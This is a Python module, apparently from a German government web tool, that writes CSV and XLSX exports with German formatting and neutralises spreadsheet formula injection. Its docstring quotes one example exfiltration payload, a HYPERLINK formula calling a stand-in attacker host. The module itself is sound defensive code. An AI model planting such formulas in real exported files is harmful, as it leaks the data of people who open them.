"""The one writer for CSV and XLSX files govtool hands out.

Spreadsheet programs run a cell that starts with `=`, `+`, `-` or `@` (and, after a tab or carriage
return, likewise) as a formula: a catalogue title `=HYPERLINK("http://evil.example/?x="&A2, …)`
would send a reviewer's data elsewhere. So text cells are neutralised: in CSV such a cell gets a
leading apostrophe (read back by `restore`), in XLSX every text cell is stored as a string, never
as a formula. Numbers, dates and booleans keep their type.

Three flavours, chosen by the caller (the caller also chooses headers and values: the UI's labels
for people, field codes for machines):

- `to_excel_csv(header, rows)`: "Excel (CSV)", the default offered to people. Semicolons (German
  Excel and LibreOffice split on them), UTF-8 with BOM, CRLF, dates `TT.MM.JJJJ`, times in
  Europe/Berlin `TT.MM.JJJJ HH:MM`, decimals with a comma, booleans as "ja"/"nein" (the user's
  language).
- `to_csv(header, rows)`: "CSV (UTF-8, technische Feldnamen)" for machines. Commas, UTF-8 with
  BOM, CRLF, ISO dates (datetimes as ISO 8601 in UTC). Unchanged since the first release.
- `to_xlsx(header, rows, sheet_title=..., widths=None, extra_sheets=())`: a sheet with a bold,
  frozen header row and an autofilter over the data; dates and datetimes are real date cells with
  a German number format (datetimes in Europe/Berlin, as Excel keeps no time zone); column widths
  from the content; `extra_sheets` (title, header, rows) are written alike; `choices` adds
  drop-down lists to columns (import templates).
- `excel_text(value)`: one value as the Excel (CSV) flavour writes it (for pages that show it).

`CSV_MIMETYPE`, `XLSX_MIMETYPE` are the types to hand to core.downloads.download (which adds the
charset once); `EXCEL_CSV`, `TECHNICAL_CSV`, `XLSX` name the flavours and `FLAVOUR_LABELS` their
labels, the ones the export buttons of templates/macros/exports.html (`export_choices`) show.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterable, Mapping, Sequence
from decimal import Decimal
from typing import Any

from flask_babel import gettext
from flask_babel import lazy_gettext as _l
from openpyxl import Workbook
from openpyxl.cell.cell import TYPE_STRING
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.datavalidation import DataValidation

from .formatting import to_berlin

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_TYPED = (int, float, Decimal, dt.date, dt.datetime, dt.time)

CSV_MIMETYPE = "text/csv"
XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

EXCEL_CSV = "excel"
TECHNICAL_CSV = "technical"
XLSX = "xlsx"
FLAVOUR_LABELS = {
    EXCEL_CSV: _l("Excel (CSV)"),
    XLSX: _l("Excel (XLSX)"),
    TECHNICAL_CSV: _l("CSV (UTF-8, technical field names)"),
}

DATE_FORMAT = "DD.MM.YYYY"
DATETIME_FORMAT = "DD.MM.YYYY HH:MM"
MIN_WIDTH, MAX_WIDTH = 8, 60
_HEADER_FILL = PatternFill("solid", fgColor="DDE4EE")


def neutralise(value: Any) -> Any:
    """A CSV cell value that no spreadsheet runs as a formula (text gets a leading apostrophe)."""
    if value is None:
        return ""
    if isinstance(value, _TYPED):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def restore(value: str) -> str:
    """The text `neutralise` was given: drops the apostrophe it added (for re-import)."""
    if value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


def _write_csv(header: Sequence[Any], rows: Iterable[Sequence[Any]], cell, delimiter: str) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow([neutralise(cell(v)) for v in header])
    for row in rows:
        writer.writerow([neutralise(cell(v)) for v in row])
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def _technical(value: Any) -> Any:
    if isinstance(value, dt.datetime):
        if value.tzinfo is not None:
            value = value.astimezone(dt.UTC)
        return value.isoformat()
    if isinstance(value, bool):
        return "yes" if value else "no"
    return value


def to_csv(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
    """ "CSV (UTF-8, technische Feldnamen)": commas, ISO dates, UTF-8 with a BOM, CRLF line ends,
    formulas neutralised."""
    return _write_csv(header, rows, _technical, ",")


def excel_text(value: Any) -> Any:
    """A cell as the Excel (CSV) flavour writes it: German dates and decimals, ja/nein."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return gettext("yes") if value else gettext("no")
    if isinstance(value, dt.datetime):
        return to_berlin(value).strftime("%d.%m.%Y %H:%M")
    if isinstance(value, dt.date):
        return value.strftime("%d.%m.%Y")
    if isinstance(value, dt.time):
        return value.strftime("%H:%M")
    if isinstance(value, float | Decimal):
        return str(value).replace(".", ",")
    return value


def to_excel_csv(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
    """ "Excel (CSV)": semicolons, UTF-8 with a BOM, CRLF, dates TT.MM.JJJJ, decimal commas,
    formulas neutralised; German Excel and LibreOffice open it with one column per field."""
    return _write_csv(header, rows, excel_text, ";")


def _xlsx_value(value: Any) -> Any:
    """A value openpyxl stores typed: aware datetimes in Berlin local time (Excel has no zones)."""
    if isinstance(value, dt.datetime) and value.tzinfo is not None:
        return to_berlin(value).replace(tzinfo=None)
    return value


def _width(value: Any) -> int:
    if value is None:
        return 0
    if isinstance(value, dt.datetime):
        return 16
    if isinstance(value, dt.date):
        return 10
    lines = str(value).splitlines() or [""]
    return max(len(line) for line in lines)


def _fill_sheet(
    sheet, header: Sequence[Any], rows: Iterable[Sequence[Any]], widths: Sequence[int | None] | None
) -> None:
    measured = [_width(h) for h in header]
    wrap = Alignment(wrap_text=True, vertical="top")
    last_row = 0
    for row_number, values in enumerate([header, *rows], start=1):
        last_row = row_number
        for column, value in enumerate(values, start=1):
            if column > len(measured):
                measured.append(0)
            measured[column - 1] = max(measured[column - 1], _width(value))
            cell = sheet.cell(row=row_number, column=column)
            if value is None:
                continue
            if isinstance(value, bool):
                cell.value = gettext("yes") if value else gettext("no")
            elif isinstance(value, _TYPED):
                cell.value = _xlsx_value(value)
                if isinstance(value, dt.datetime):
                    cell.number_format = DATETIME_FORMAT
                elif isinstance(value, dt.date):
                    cell.number_format = DATE_FORMAT
            else:
                text = str(value)
                cell.value = text
                cell.data_type = TYPE_STRING  # openpyxl would make "=…" a formula
                if text.startswith(FORMULA_STARTS):
                    cell.quotePrefix = True  # Excel keeps it text when the cell is edited
                if "\n" in text:
                    cell.alignment = wrap
    bold = Font(bold=True)
    for cell in sheet[1]:
        cell.font = bold
        cell.fill = _HEADER_FILL
        cell.alignment = Alignment(vertical="top", wrap_text=True)
    for index, width in enumerate(measured, start=1):
        given = widths[index - 1] if widths and index <= len(widths) else None
        chosen = given if given else min(max(width + 2, MIN_WIDTH), MAX_WIDTH)
        # a header wraps between words, never inside one ("Datenbereitstellend|e")
        title = str(header[index - 1]) if index <= len(header) else ""
        longest_word = max((len(word) for word in title.split()), default=0)
        chosen = max(chosen, min(longest_word + 3, MAX_WIDTH))
        sheet.column_dimensions[get_column_letter(index)].width = chosen
    sheet.row_dimensions[1].height = 15 * max(
        (
            _wrapped_lines(str(h), sheet.column_dimensions[get_column_letter(i)].width)
            for i, h in enumerate(header, start=1)
        ),
        default=1,
    )
    sheet.freeze_panes = "A2"
    if header:
        sheet.auto_filter.ref = f"A1:{get_column_letter(len(header))}{max(last_row, 1)}"
    # printed: landscape, the header row on every page (the printable register is the DOCX)
    sheet.page_setup.orientation = "landscape"
    sheet.print_title_rows = "1:1"


def _wrapped_lines(text: str, width: float | None) -> int:
    """How many lines a header takes when wrapped between words in a column `width` wide (the
    row height is not computed by every program on opening)."""
    room = max(int((width or MIN_WIDTH) - 2), 1)
    lines, used = 1, 0
    for word in text.split():
        if used and used + 1 + len(word) > room:
            lines, used = lines + 1, len(word)
        else:
            used += len(word) + (1 if used else 0)
    return lines


def _add_choices(workbook, sheet, choices: Mapping[int, Sequence[str]], rows: int) -> None:
    lists = workbook.create_sheet("Listen")
    lists.sheet_state = "hidden"
    for number, (column, values) in enumerate(sorted(choices.items()), start=1):
        letter = get_column_letter(number)
        for row, value in enumerate(values, start=1):
            cell = lists.cell(row=row, column=number, value=str(value))
            cell.data_type = TYPE_STRING
        validation = DataValidation(
            type="list",
            formula1=f"Listen!${letter}$1:${letter}${max(len(values), 1)}",
            allow_blank=True,
            showErrorMessage=True,
            errorStyle="warning",
        )
        target = get_column_letter(column + 1)
        validation.add(f"{target}2:{target}{rows + 1}")
        sheet.add_data_validation(validation)


def to_xlsx(
    header: Sequence[str],
    rows: Iterable[Sequence[Any]],
    *,
    sheet_title: str = "Export",
    widths: Sequence[int | None] | None = None,
    extra_sheets: Sequence[tuple[str, Sequence[str], Iterable[Sequence[Any]]]] = (),
    choices: Mapping[int, Sequence[str]] | None = None,
    choice_rows: int = 2000,
) -> bytes:
    """An XLSX workbook: text is always a string cell, never a formula; dates are date cells
    (TT.MM.JJJJ); a bold, frozen header row with an autofilter; column widths from the content
    (or `widths`, in characters, where given). `extra_sheets` are further sheets (title, header,
    rows) written alike, e.g. the notes of an import template. `choices` offers a drop-down list
    in the first sheet's column (0-based index) for `choice_rows` rows below the header (a
    warning, not a refusal, for other values); the lists stand on a hidden last sheet."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = sheet_title[:31]
    _fill_sheet(sheet, header, rows, widths)
    for title, extra_header, extra_rows in extra_sheets:
        _fill_sheet(workbook.create_sheet(title[:31]), extra_header, extra_rows, None)
    if choices:
        _add_choices(workbook, sheet, choices, choice_rows)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()
